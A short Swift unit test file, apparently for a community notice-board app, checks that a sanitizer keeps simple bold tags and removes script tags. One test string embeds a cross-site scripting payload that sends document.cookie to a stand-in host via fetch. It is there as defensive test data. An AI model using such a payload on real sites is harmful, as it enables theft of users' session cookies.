import XCTest
@testable import Lindenpost

final class NoticeSanitizerTests: XCTestCase {
    func testKeepsBasicFormatting() {
        XCTAssertEqual(NoticeSanitizer.clean("<b>Bin day</b> moved"), "<b>Bin day</b> moved")
    }

    func testStripsScriptTags() {
        let dirty = "Jumble sale <script>fetch('//x.test/'+document.cookie)</script>Saturday"
        XCTAssertEqual(NoticeSanitizer.clean(dirty), "Jumble sale Saturday")
    }
}
